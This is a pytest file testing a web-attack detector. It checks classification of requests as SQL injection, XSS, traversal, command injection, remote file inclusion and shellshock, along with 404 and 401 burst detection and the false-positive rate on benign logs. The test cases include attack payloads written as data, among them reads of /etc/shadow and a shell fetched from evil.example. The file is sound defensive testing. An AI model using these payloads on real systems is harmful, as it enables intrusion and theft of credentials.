"""Web signatures (per request) and the WebAttack detector (signatures + bursts)."""

from __future__ import annotations

import gzip
import io
from datetime import UTC, datetime, timedelta

import numpy as np
import polars as pl
import pytest
from tests.conftest import need_data

from mirrorguard.detect.web import WebAttack
from mirrorguard.detect.web_signatures import SIGNATURES, probe_path_expr, web_signatures
from mirrorguard.ingest.base import Origin, ParseContext
from mirrorguard.ingest.parsers.weblog import WebAccessParser

T0 = datetime(2024, 5, 1, tzinfo=UTC)


def req(urls: list[str], status: int = 200, ua: str = "Mozilla/5.0", src: str = "192.0.2.1",
        step_s: float = 1.0, **extra: list[object]) -> pl.DataFrame:
    n = len(urls)
    return pl.DataFrame({"@timestamp": [T0 + timedelta(seconds=step_s * i) for i in range(n)],
                         "source.ip": [src] * n, "url.original": urls,
                         "http.request.method": ["GET"] * n,
                         "http.response.status_code": [status] * n,
                         "user_agent.original": [ua] * n, **extra})


@pytest.mark.parametrize(("url", "cls"), [
    ("/p?id=1%27%20OR%20%271%27=%271", "sqli"),
    ("/p?id=1+union+all+select+1,2,3", "sqli"),
    ("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
    ("/s?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "xss"),
    ("/static/..%2f..%2f..%2fetc/passwd", "traversal"),
    ("/ping?host=1.1.1.1;cat%20/etc/shadow", "cmdi"),
    ("/index.php?page=http://evil.example/shell.txt?", "rfi"),
    ("/cgi-bin/x.cgi?() { :; }; echo", "shellshock"),
])
def test_attack_classes_on_decoded_targets(url: str, cls: str) -> None:
    out = web_signatures(req([url])).row(0, named=True)
    assert cls in out["web.attack.classes"].split(",") and out["web.attack.score"] == 1.0


def test_benign_requests_score_low() -> None:
    urls = ["/", "/blog/tags/sysadmin", "/images/a.png?v=2", "/search?q=select+a+car",
            "/articles/dynamic-dns-with-dhcp/"]
    out = web_signatures(req(urls))
    assert out["web.attack.score"].max() < 1.0


def test_probe_depends_on_status_and_agents_and_auth() -> None:
    assert web_signatures(req(["/wp-login.php"], status=404))["web.attack.score"][0] == 1.0
    assert web_signatures(req(["/wp-login.php"], status=200))["web.attack.score"][0] == 0.3
    assert web_signatures(req(["/"], ua="sqlmap/1.7"))["web.attack.classes"][0] == "scanner"
    challenge = req(["/admin"], status=401, **{"user.name": [None]})
    wrong = req(["/admin"], status=401, **{"user.name": ["bob"]})
    assert web_signatures(challenge)["web.attack.score"][0] < 1.0
    assert web_signatures(wrong)["web.attack.classes"][0] == "http_auth"
    assert pl.select(probe_path_expr(pl.lit("/var/www/phpMyAdmin-2.8/"))).item()


def test_signature_names_unique() -> None:
    names = [s.name for s in SIGNATURES]
    assert len(names) == len(set(names))


def test_webattack_burst_of_distinct_404s() -> None:
    X = req([f"/dir{i}/" for i in range(30)], status=404)
    det = WebAttack(burst_paths=20).fit(X.head(0))
    s = det.score(X)
    assert s[0] < det.threshold_ < s[-1]
    (alert,) = det.alerts(X)
    assert "distinct error paths" in alert.explanation.text
    assert alert.entities == {"ip": ("192.0.2.1",)}


def test_webattack_http_auth_burst() -> None:
    X = req(["/admin"] * 12, status=401)
    assert WebAttack(auth_burst=10).fit(X.head(0)).predict(X)[-1]


def test_webattack_fit_leaves_out_signature_hits_and_round_trips() -> None:
    benign = req([f"/page{i % 7}" for i in range(200)], step_s=60)
    attacks = req(["/wp-login.php"] * 50, status=404, src="198.51.100.4", step_s=600)
    det = WebAttack(target_fpr=0.01).fit(pl.concat([benign, attacks]))
    assert det.n_fit_excluded_ == 50 and det.threshold_ == pytest.approx(0.99)
    params, (meta, arrays) = det.get_params(), det.get_state()
    again = WebAttack.from_state(params, meta, arrays)
    np.testing.assert_array_equal(again.predict(attacks), det.predict(attacks))


def test_benign_apache_rate_under_half_percent() -> None:
    path = need_data("apache_access_elastic_examples", "Common Data Formats", "apache_logs",
                     "apache_logs.gz")
    ctx = ParseContext(origin=Origin("a", None, "0" * 64), ingested_at=datetime.now(UTC))
    ev = pl.concat([r.events for r in WebAccessParser().parse(
        io.BytesIO(gzip.decompress(path.read_bytes())), ctx)], how="diagonal_relaxed")
    sig = web_signatures(ev)
    assert ev.height == 10_000
    assert (sig["web.attack.score"] >= 1).mean() <= 0.005  # type: ignore[operator]
